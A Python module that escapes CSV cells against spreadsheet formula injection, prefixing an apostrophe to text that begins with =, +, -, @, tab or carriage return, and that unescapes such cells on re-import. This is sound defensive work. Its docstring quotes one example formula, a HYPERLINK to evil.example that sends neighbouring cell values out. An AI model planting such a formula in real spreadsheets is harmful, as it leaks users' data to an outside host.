"""Tables that leave Safehands as spreadsheets: cells that cannot run in Excel.

A text cell that begins with `=`, `+`, `-` or `@` (or a tab or carriage return, which some
programs strip before reading on) is taken as a formula by Excel and LibreOffice: a comment
typed as `=HYPERLINK("http://evil.example/?x="&A1)` would become a live link that sends the
neighbouring cells away. Such cells are written with a leading apostrophe, which spreadsheet
programs show as text (OWASP, "CSV Injection"). Plain numbers such as `-1.5` or `+3` are
numbers, not formulas, and stay as they are; so the CSV of numbers reads back unchanged.

Every CSV a user downloads or exports goes through `csv_writer`; a Safehands import that
reads such a file back removes the apostrophe again (`unescape_cell`), so an export of a
team's own values imports back to the same values.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any, TextIO

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
ESCAPE = "'"
_NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")


def escape_cell(value: Any) -> Any:
    """The value, with an apostrophe before text that a spreadsheet would run as a formula."""
    if (isinstance(value, str) and value.startswith(FORMULA_STARTS)
            and not _NUMBER.fullmatch(value)):
        return ESCAPE + value
    return value


def unescape_cell(text: str) -> str:
    """The text as it was before `escape_cell`: for imports of files Safehands wrote."""
    if text.startswith(ESCAPE) and text[1:].startswith(FORMULA_STARTS) \
            and not _NUMBER.fullmatch(text[1:]):
        return text[1:]
    return text


class SafeWriter:
    """`csv.writer` whose every cell goes through `escape_cell`."""

    def __init__(self, out: TextIO, **options: Any) -> None:
        options.setdefault("lineterminator", "\n")
        self._writer = csv.writer(out, **options)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([escape_cell(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(out: TextIO, **options: Any) -> SafeWriter:
    """A CSV writer for files people open in spreadsheets (lines end in `\\n` by default)."""
    return SafeWriter(out, **options)
